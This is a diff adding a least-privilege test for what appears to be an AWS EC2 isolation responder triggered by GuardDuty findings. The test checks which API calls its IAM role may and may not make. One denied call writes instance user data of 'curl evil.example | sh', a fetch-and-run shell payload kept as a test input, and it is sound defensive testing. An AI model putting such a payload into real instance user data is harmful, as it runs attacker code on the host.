@@ -142,3 +142,64 @@ def test_an_interface_gets_its_groups_changed_and_nothing_else(every_option, fun
         "NetworkInterfaces"][0]
     assert [g["GroupId"] for g in described["Groups"]] == [group]
     assert described["SourceDestCheck"] is True
+
+
+def _product_groups(stack, vpc_id: str) -> dict:
+    """The VPC's pair of groups as the product makes them (tagged with their role)."""
+    from chalicelib.actions.isolation import GROUP_NAMES, ROLE_TAG
+
+    ec2 = stack.client("ec2")
+    return {role: ec2.create_security_group(
+        GroupName=name, Description=role, VpcId=vpc_id, TagSpecifications=[{
+            "ResourceType": "security-group", "Tags": [{"Key": ROLE_TAG, "Value": role}]}])[
+        "GroupId"] for role, name in GROUP_NAMES.items()}
+
+
+def test_the_entry_function_can_isolate_and_nothing_else(stack):
+    """The first cut's rights, held by the functions anyone's finding or request reaches: the
+    product's groups on an interface, never another group; the tracking timeouts alone; the
+    preservation attributes; rules only added to the all-open group and taken from the
+    isolation group; tags only on a group it creates. No restore, no profile, no instance tag
+    (such as an exemption)."""
+    victim = make_victim(stack, interfaces=1, volumes=1)
+    (eni, groups), = victim["interfaces"].items()
+    mine = _product_groups(stack, victim["vpc_id"])
+    instance = victim["instance_id"]
+    all_traffic = [{"IpProtocol": "-1", "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]
+    with stack.enforce_iam():
+        ec2 = _as(stack, "on_guardduty_finding", "ec2")
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni, Groups=groups)
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
+                Groups=[mine["isolation"], groups[0]])
+        _denied(ec2.modify_network_interface_attribute, NetworkInterfaceId=eni,
+                SourceDestCheck={"Value": False})
+        _denied(ec2.modify_instance_attribute, InstanceId=instance,
+                UserData={"Value": b"#!/bin/sh\ncurl evil.example | sh"})
+        _denied(ec2.create_tags, Resources=[instance],
+                Tags=[{"Key": "QuarantineExempt", "Value": "true"}])
+        _denied(ec2.create_tags, Resources=[mine["isolation"]], Tags=[{"Key": "x", "Value": "y"}])
+        _denied(ec2.authorize_security_group_ingress, GroupId=mine["isolation"],
+                IpPermissions=all_traffic)
+        _denied(ec2.authorize_security_group_ingress, GroupId=groups[0],
+                IpPermissions=all_traffic)
+        _denied(ec2.revoke_security_group_egress, GroupId=mine["open"],
+                IpPermissions=all_traffic)
+        _denied(ec2.create_security_group, GroupName="mine", Description="x",
+                VpcId=victim["vpc_id"])
+        _denied(ec2.disassociate_iam_instance_profile, AssociationId="iip-assoc-0")
+        # what the cut does
+        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni, Groups=[mine["open"]])
+        ec2.modify_network_interface_attribute(NetworkInterfaceId=eni,
+                                               Groups=[mine["isolation"]])
+        ec2.modify_network_interface_attribute(
+            NetworkInterfaceId=eni, ConnectionTrackingSpecification={
+                "TcpEstablishedTimeout": 60, "UdpStreamTimeout": 60, "UdpTimeout": 30})
+        ec2.modify_instance_attribute(InstanceId=instance,
+                                      InstanceInitiatedShutdownBehavior={"Value": "stop"})
+        ec2.authorize_security_group_ingress(GroupId=mine["open"], IpPermissions=all_traffic)
+        ec2.revoke_security_group_egress(GroupId=mine["isolation"], IpPermissions=all_traffic)
+    described = stack.client("ec2").describe_network_interfaces(NetworkInterfaceIds=[eni])[
+        "NetworkInterfaces"][0]
+    assert [g["GroupId"] for g in described["Groups"]] == [mine["isolation"]]
+    assert described["SourceDestCheck"] is True
+    assert instance_attribute(stack, instance, "instanceInitiatedShutdownBehavior") == "stop"
